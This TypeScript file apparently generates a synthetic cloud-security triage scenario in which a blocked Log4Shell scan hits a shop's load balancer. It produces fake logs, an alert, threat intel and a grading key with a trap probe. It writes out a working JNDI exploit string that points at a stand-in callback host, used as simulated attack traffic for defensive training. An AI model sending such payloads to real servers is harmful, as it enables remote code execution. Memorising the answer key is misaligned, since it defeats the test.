import { makeEnvironment, makeVm, publicClientIp } from "./environment.js";
import type { Expected } from "./expected.js";
import { HOUR, MINUTE, webTraffic } from "./kit.js";
import { LogBook } from "./log-book.js";
import { lbRequest, TABLES } from "./log-entries.js";
import { addBackgroundNoise } from "./noise.js";
import { sccNotification } from "./notification.js";
import type { Rng } from "./prng.js";
import { type ScenarioDefinition, scenarioFiles } from "./scenario.js";
import { addFeedNoise, StixBundle } from "./stix.js";

const EVENT_TIME = "2025-07-09T11:05:31.620Z";
const BACKEND = "shop-web-backend";
const RULE = "shop-web-https";
const URL_MAP = "shop-web-lb";
const POLICY = "shop-edge-waf";
const HOST = "shop.acme-retail.com";
const SCANNER = "198.51.100.77";
const CALLBACK = "203.0.113.45";
const WAF_RULE = "owasp-crs-v030001-id044228-cve";

/**
 * Event Threat Detection reads a JNDI lookup string in requests to the shop's external
 * Application Load Balancer and reports a Log4j compromise attempt against the backend
 * service. The front end's Cloud Armor policy refused every one of the scanner's requests
 * (403, denied_by_security_policy, the CVE-2021-44228 signature), none reached a backend,
 * nothing in the project resolved or contacted the callback, and threat intel knows the
 * source as an internet-wide research scanner. A blocked probe with no follow-up.
 */
function build(rng: Rng): Map<string, string> {
  const T = Date.parse(EVENT_TIME);
  const web1 = makeVm(rng, { name: "shop-web-1", role: "web", host: 20 });
  const web2 = makeVm(rng, { name: "shop-web-2", role: "web", host: 21 });
  const vms = [web1, web2, makeVm(rng, { name: "shop-db-1", role: "db", host: 30 })];
  const env = makeEnvironment(rng, {
    projectId: "acme-shop-prod",
    domain: "acme-retail.com",
    vms,
    buckets: ["acme-shop-assets"],
  });
  const book = new LogBook();
  const window = { start: T - 8 * HOUR, end: T + 2 * HOUR };
  addBackgroundNoise(book, env, window, rng.fork("noise"));
  webTraffic(book, env, rng.fork("web"), {
    window,
    count: 800,
    backendService: BACKEND,
    forwardingRule: RULE,
    urlMap: URL_MAP,
    host: HOST,
    backends: [web1, web2],
    clientIp: publicClientIp,
    policy: POLICY,
  });

  const signal = rng.fork("signal");
  const payload = `\${jndi:ldap://${CALLBACK}:1389/Basic/Command/Base64/aWQ=}`;
  const probes = [
    `https://${HOST}/?x=${payload}`,
    `https://${HOST}/search?q=${payload}`,
    `https://${HOST}/api/v1/login?user=${payload}`,
    `https://${HOST}/cart?ref=${payload}`,
  ];
  for (let n = 0; n < 14; n++) {
    book.add(
      TABLES.requests,
      lbRequest(signal, {
        project: env.project,
        time: T - 2 * MINUTE + n * signal.int(6_000, 14_000),
        backendService: BACKEND,
        forwardingRule: RULE,
        urlMap: URL_MAP,
        url: probes[n % probes.length] ?? probes[0]!,
        status: 403,
        remoteIp: SCANNER,
        userAgent: n % 2 === 0 ? payload : "Mozilla/5.0 (compatible; research-scan/2.1)",
        policy: { name: POLICY, priority: 1000, action: "DENY", exprIds: [WAF_RULE] },
      }),
    );
  }

  const notification = sccNotification(rng.fork("finding"), env, {
    source: "eventThreatDetection",
    category: "Initial Access: Log4j Compromise Attempt",
    findingClass: "THREAT",
    severity: "HIGH",
    eventTime: EVENT_TIME,
    resource: {
      name: `//compute.googleapis.com/projects/${env.project.id}/global/backendServices/${BACKEND}`,
      type: "google.compute.BackendService",
      displayName: BACKEND,
    },
    description:
      "A request to a load balancer carried a JNDI lookup string of the kind used to exploit CVE-2021-44228 (Log4Shell).",
    finding: {
      sourceProperties: {
        detectionCategory: { ruleName: "log4j_compromise_attempt" },
        properties: {
          loadBalancerName: URL_MAP,
          requestUrl: probes[1],
          remoteIp: SCANNER,
          jndiLookup: `ldap://${CALLBACK}:1389/Basic/Command/Base64/aWQ=`,
        },
      },
      loadBalancers: [{ name: URL_MAP }],
      indicator: { ipAddresses: [CALLBACK] },
      mitreAttack: {
        primaryTactic: "INITIAL_ACCESS",
        primaryTechniques: ["EXPLOIT_PUBLIC_FACING_APPLICATION"],
      },
    },
  });

  const intel = new StixBundle(rng.fork("intel"), "2025-06-20T00:00:00.000Z", "Ferret Demo Threat Feed");
  const scanner = intel.indicator({
    name: "Internet-wide research scanner",
    pattern: `[ipv4-addr:value = '${SCANNER}']`,
    types: ["benign"],
    labels: ["internet-scanner", "research"],
    description:
      "A research project's scanner that sweeps the internet for CVE-2021-44228 with canary callbacks it hosts itself; it sends probes and never follows up.",
    confidence: 80,
    validFrom: "2025-06-20T00:00:00.000Z",
  });
  intel.opinion([scanner], "agree", "Seen across many customers; probes only.");
  addFeedNoise(intel, rng.fork("intel-noise"), "2025-04-01T00:00:00.000Z", new Set([SCANNER, CALLBACK]));

  const expected: Expected = {
    scenario: "log4j-blocked-probe",
    category: "Initial Access: Log4j Compromise Attempt",
    verdict: "benign",
    acceptableVerdicts: ["benign", "false_positive"],
    requiredIocs: [{ type: "ip", value: SCANNER, why: "the probing client" }],
    requiredEvidence: [
      {
        id: "edge-denied",
        description: "Cloud Armor refused every request from the scanner at the front end (403)",
        anyOf: ["denied_by_security_policy", POLICY],
      },
      {
        id: "known-scanner",
        description: "intel knows the source as a research scanner (benign)",
        anyOf: ["internet-scanner", "research"],
      },
    ],
    optionalEvidence: [{ id: "signature", description: "the Log4Shell WAF signature", anyOf: [WAF_RULE] }],
    mitreTechniques: ["T1190"],
    probes: [
      {
        runbook: "lb_requests_from_ip",
        params: { ip: SCANNER },
        window: { hoursBefore: 6, hoursAfter: 1 },
        expect: ["denied_by_security_policy", '"http_status":403', WAF_RULE, '"requests":14'],
        absent: ['"http_status":200'],
        why: "every request of the probe was refused at the edge",
      },
      {
        runbook: "vpc_flows_to_ip",
        params: { ip: CALLBACK },
        window: { hoursBefore: 6, hoursAfter: 2 },
        expect: [],
        rows: "none",
        why: "no backend called the JNDI callback",
      },
      {
        runbook: "vpc_flows_from_instance",
        params: { instance: BACKEND },
        window: { hoursBefore: 6, hoursAfter: 1 },
        expect: [],
        rows: "none",
        trap: true,
        why: "a backend service is not a VM (the wrong-identifier trap)",
      },
    ],
    story:
      `${SCANNER} sent 14 requests with a JNDI lookup to ${CALLBACK} to the shop's load balancer at ${EVENT_TIME.slice(11, 16)} UTC. ` +
      `Cloud Armor policy ${POLICY} denied all of them (403, signature ${WAF_RULE}); none reached ${BACKEND}'s VMs, nothing contacted ${CALLBACK}, ` +
      "and intel lists the source as a research scanner. Benign: a blocked probe with no follow-up.",
  };
  return scenarioFiles({ notification, intel, expected, logs: book });
}

export const log4jBlockedProbe: ScenarioDefinition = {
  name: "log4j-blocked-probe",
  seed: "ferret/log4j-blocked-probe/v1",
  build,
};
